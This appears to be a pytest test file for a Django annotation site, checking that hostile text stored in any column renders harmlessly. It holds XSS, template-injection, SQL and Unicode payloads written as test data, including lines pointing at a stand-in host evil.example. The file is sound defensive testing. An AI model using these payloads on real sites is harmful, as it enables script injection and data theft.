"""Hostile words in every column that holds words: on every page and in every answer they are only words.

Threats T5, B23, B24, B40, B41, B42, B43, B44, B46, B47, B48, B49, B50 and B51 (the words are in
`tests/support/hostile_texts.py`). What Chromium makes of them is shown in
`tests/browser/test_browser_hostile_texts.py`.
"""

import html
import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from django.conf import settings
from django.http import HttpResponseBase
from django.test import Client
from django.urls import reverse

import builders
from annotation.domain.categories import BadCategories, read_categories
from annotation.domain.choices import Role
from annotation.domain.markdown import render
from annotation.members.join import BadMember, add_member
from annotation.models import Item, Membership, Project, record
from annotation.projects.create import BadProject, create_project
from hostile_texts import ACCOUNT_PAGES, MARK, WORDS, admin_pages, fill, unguard, write_everywhere
from rows_of_every_model import add_missing_rows
from site_addresses import ROUTES
from site_objects import World, module_world, world

pytestmark = pytest.mark.django_db

__all__ = ["module_world", "world"]


def poison(words: str) -> dict[str, str]:
    """Write the words everywhere, in append-only tables too; undone with the test's transaction.

    Return the written columns by their marks.
    """
    unguard()
    return write_everywhere(words)


class Markup(HTMLParser):
    """What a browser would act on in a page: tags with their attributes, and what stands inside scripts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.inside: list[tuple[str, str]] = []
        self._in = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in = tag if tag in ("script", "style") else ""

    def handle_endtag(self, tag: str) -> None:
        self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in:
            self.inside.append((self._in, data))


NO_PAGE = {
    "application/json", "application/jsonl", "application/vnd.oai.openapi+json", "application/zip",
    "application/octet-stream", "text/csv", "text/markdown", "image/png", "image/jpeg",
}  # fmt: skip
"""Kinds that no browser runs, as long as it may not guess another."""
OUR_SCRIPTS = ("/static/", "/api/v1/?script=", f"/{settings.ADMIN_PATH}jsi18n/")
OUTSIDE = re.compile(r"^\s*(?:javascript:|data:text|//|https?:(?!//findahelpline\.com$))", re.I)
"""Any other site but the one our own help page names."""
ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "data", "srcset", "poster")


def assert_harmless(page: str, where: str) -> None:
    """No script, style, handler or address in the page that is not ours."""
    markup = Markup(page)
    for tag, attributes in markup.tags:
        assert tag not in ("iframe", "object", "embed", "style", "base"), where
        assert not [name for name in attributes if name.startswith("on")], (where, tag, attributes)
        assert "style" not in attributes, (where, tag, attributes)
        for name in ADDRESSES:
            assert not OUTSIDE.match(attributes.get(name, "")), (where, tag, attributes)
            assert attributes.get(name) != "/export", (where, tag, attributes)
        if tag == "script" and attributes.get("type") != "application/json":
            assert attributes.get("src", "").startswith(OUR_SCRIPTS), (where, attributes)
    for tag, text in markup.inside:
        assert "alert(1)" not in text and "evil.example" not in text, (where, tag)


@pytest.fixture
def everything(world: World) -> World:
    """A site with a row of everything that shows words, the objects of all addresses among it."""
    for route in ROUTES.values():
        route.parts(world)
    fill(world)
    add_missing_rows(world)
    return world


def content_of(answer: HttpResponseBase) -> str:
    if answer.streaming:
        return b"".join(answer).decode("utf-8", "replace")  # type: ignore[arg-type]
    return answer.content.decode()


PAIRS = {
    "B41 out of an attribute": "B42 htmx",
    "B50 out of JSON": "B43 templates",
    "B44 out of a form": "B41 a picture with a handler",
    "B48 a file name": "B47 a picture that tells",
    "B40 a script": "B51 a style",
    "B49 a name": "B46 Markdown",
}
"""Two words stand in one text. A short column cuts the second, which comes out of what a first one comes out of."""


def test_every_word_stands_in_a_pair() -> None:
    assert sorted([*PAIRS, *PAIRS.values()]) == sorted(WORDS)


@pytest.mark.once  # a walk through all addresses: what a page makes of words does not depend on what stored them
@pytest.mark.parametrize("pair", PAIRS)
def test_words_are_only_words_on_every_page(pair: str, everything: World):
    words = f"{WORDS[pair]} {WORDS[PAIRS[pair]]}"
    record("settings", project=everything.project, actor=everything.other, item=everything.item, reason=words)
    addresses = {name: reverse(name, kwargs=dict(route.parts(everything))) for name, route in sorted(ROUTES.items())}
    columns, seen = poison(words), set()
    member = everything.members[Role.ANNOTATOR]
    assert member.user is not None
    member.user.is_staff = member.user.is_superuser = True
    member.user.save(update_fields=("is_staff", "is_superuser"))
    client = Client()
    client.force_login(member.user)
    for name, address in addresses.items():
        if "get" not in ROUTES[name].methods:
            continue
        answer = client.get(address)
        page = content_of(answer)
        kind = answer.get("Content-Type", "").partition(";")[0]
        if kind == "text/html":
            assert_harmless(page, name)
        elif answer.status_code == 200:
            assert answer["X-Content-Type-Options"] == "nosniff", name
            assert kind in NO_PAGE, (name, kind)
        seen |= {f"c{number}q" for number in MARK.findall(html.unescape(page))}
    for address in (*map(reverse, ACCOUNT_PAGES), *admin_pages(everything)):
        answer = client.get(address, follow=True)
        assert answer.status_code == 200, address
        page = content_of(answer)
        assert_harmless(page, address)
        seen |= {f"c{number}q" for number in MARK.findall(html.unescape(page))}
    unseen = {columns[mark] for mark in columns.keys() - seen}
    assert sorted(unseen - CUT) == sorted(ON_NO_PAGE)


_TO_MODELS = "it is sent to models; a page shows it beside what a model made of it"
_OF_A_RUN = "only the page of an evaluation that has a report shows it"
_FOR_NOBODY = "no page shows it"
CUT = {"Candidate.model", "Explanations.model", "PoolPicture.model", "Event.facts"}
"""Names of models are shown from their last slash on, and facts cut: some words lose their mark."""
ON_NO_PAGE = {
    "AccessRequest.accepted_terms": _FOR_NOBODY,
    **dict.fromkeys([f"EvaluationCase.{name}" for name in ("dataset", "picture_path", "subset", "text")], _OF_A_RUN),
    "Example.source": "its page has the perspective's code in the address",
    "Example.text": "its page has the perspective's code in the address",
    **dict.fromkeys([f"Exemplar.{name}" for name in ("hate", "licence", "source", "text")], _TO_MODELS),
    "Item.picture_name": "the pages of this walk show pictures, not the names of missing ones",
    "ItemVector.model": _FOR_NOBODY,
    "Membership.imported_name": _FOR_NOBODY,
    **dict.fromkeys([f"ModelFact.{name}" for name in ("name", "sentence", "value")], "a command shows it"),
    "PoolPicture.explanation": _TO_MODELS,
    "Reply.override_reason": "only an approved reply shows it",
    "SavedSearch.name": "a name is a key of its owner: the row of somebody else has the text",
    "Score.about": "only a score without an item shows it",
    "Score.text": "only a score without an item shows it",
    "Skip.reason": "nobody reads it but who skipped, in their own data",
    "Statement.puid": "only the file of a statement holds it",
    "Trigger.text": _TO_MODELS,
    "Turn.detail": "only a turn that failed shows it",
}
"""Columns whose texts come on no page of this walk, and why. Their pages are tried where the parts of a site are."""


def test_b43_nothing_is_computed_from_words(everything: World):
    poison("{{7*7}} {% debug %} ${7*7} {{ settings.SECRET_KEY }}")
    member = everything.members[Role.ANNOTATOR]
    assert member.user is not None
    client = Client()
    client.force_login(member.user)
    for name in ("annotation:item", "annotation:label", "annotation:project-settings"):
        page = content_of(client.get(reverse(name, kwargs=ROUTES[name].parts(everything))))
        assert "{{7*7}} {% debug %}" in html.unescape(page)
        assert settings.SECRET_KEY not in page


def test_b44_words_stay_inside_the_form_that_edits_them(everything: World):
    words = "</textarea><form action=//evil.example><input name=q>"
    poison(words)
    member = everything.members[Role.ANNOTATOR]
    assert member.user is not None
    client = Client()
    client.force_login(member.user)
    page = content_of(client.get(reverse("annotation:project-settings", args=["here"])))
    assert page.count("<textarea") == page.count("</textarea>") >= 4
    assert html.escape(words) in page


@pytest.mark.parametrize(
    ("markdown", "gone"),
    [
        ("[x](javascript:alert(1))", 'href="javascript'),
        ("[x](JaVaScRiPt:alert(1))", "href="),
        ("[x](data:text/html,<script>alert(1)</script>)", 'href="data'),
        ("[x](vbscript:x)", "href="),
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![p](http://evil.example/?d=1)", "evil.example"),
        ("<iframe src=//evil.example></iframe>", "<iframe"),
        ("<style>*{}</style>", "<style"),
        ("<b style=color:red onclick=x>b</b>", "<b"),
        ('[x](http://a.example "<img src=x onerror=alert(1)>")', "<img"),
        ("`<script>`", "<script"),
        ("```<script>\nx\n```", "<script"),
        ("[x]: javascript:alert(1)\n\n[x]", 'href="javascript'),
        ("<javascript:alert(1)>", 'href="javascript'),
    ],
)
def test_b46_guidelines_are_markdown_that_can_do_nothing(markdown: str, gone: str):
    shown = render(markdown)
    assert gone not in shown
    assert_harmless(re.sub(r'href="https?://', 'href="/', shown), markdown)


BIDI = "abc \u202egnirts\u202c \u2067end\u2069 \u200f!"


def test_b23_direction_controls_are_stored_exactly_isolated_and_marked(everything: World):
    Item.objects.filter(pk=everything.open_item.pk).update(text=BIDI)
    Item.objects.filter(pk=everything.item.pk).update(text=BIDI)
    member = everything.members[Role.ANNOTATOR]
    assert member.user is not None
    client = Client()
    client.force_login(member.user)
    for name in ("annotation:label", "annotation:item", "annotation:items"):
        page = content_of(client.get(reverse(name, kwargs=ROUTES[name].parts(everything))))
        isolated = re.findall(r"<bdi[^>]*>(.*?)</bdi>", page, re.S)
        texts = [re.sub(r'<span class="control"[^>]*>[A-Z]+</span>', "", each) for each in isolated]
        assert any("gnirts" in text for text in texts), name
        if name != "annotation:items":
            assert ">RLO</span>" in page and ">RLI</span>" in page, name
        unisolated = re.sub(r"<bdi[^>]*>.*?</bdi>", "", page, flags=re.S)
        assert "\u202e" not in unisolated, name
    whole = client.get(reverse("api:item", args=["here", everything.item.public_id])).json()
    assert whole["text"] == BIDI


def test_b24_ten_thousand_combining_marks_are_shown_bounded_within_seconds(everything: World):
    tower = "a" + "\u0301" * 10_000
    Item.objects.filter(pk=everything.open_item.pk).update(text=tower)
    member = everything.members[Role.ANNOTATOR]
    assert member.user is not None
    client = Client()
    client.force_login(member.user)
    client.get(reverse("annotation:projects"))
    began = time.process_time()
    page = content_of(client.get(reverse("annotation:label", args=["here"])))
    assert time.process_time() - began < 5
    assert tower in page
    # The box clips what towers out of it; `tests/browser` measures the card.
    assert re.search(r'<blockquote[^>]*class="post-text', page)
    assert re.search(r"\.post-text \{[^}]*contain: paint", (settings.BASE_DIR / "static/app.css").read_text("utf-8"))


# ── Names that never come in (B49, B50) ───────────────────────────────────────


@pytest.mark.parametrize("name", ["<b>Ada</b>", "x" * 500, '"><svg/onload=alert(1)>', "ada lovelace", "a\u202eb"])
def test_b49_an_account_has_no_markup_and_no_500_characters_in_its_name(name: str):
    project = builders.make_project()
    with pytest.raises(BadMember):
        add_member(project, name, Role.ANNOTATOR)
    assert not Membership.objects.filter(project=project).exists()


def test_b49_a_project_s_name_has_a_limit_and_its_address_an_alphabet():
    with pytest.raises(BadProject):
        create_project("garden", name="x" * 500)
    with pytest.raises(BadProject):
        create_project('"><svg/onload=alert(1)>', name="Garden")
    assert not Project.objects.exclude(slug="here").exists()


@pytest.mark.parametrize(
    "category",
    [
        {"key": "</script><script>alert(1)</script>"},
        {"hotkey": "</script>"},
        {"key": "<"},
        {"name": "x" * 5_000},
        {"code": "1; DROP TABLE"},
        {"hateful": "yes"},
        {"aliases": "Racist"},
    ],
)
def test_b50_settings_that_come_as_json_are_held_to_their_schema(category: dict[str, Any]):
    rows = [{"code": 0, "name": "NotHate", "hateful": False}, {"code": 1, "name": "Hate", "hateful": True, **category}]
    with pytest.raises(BadCategories):
        read_categories(rows)
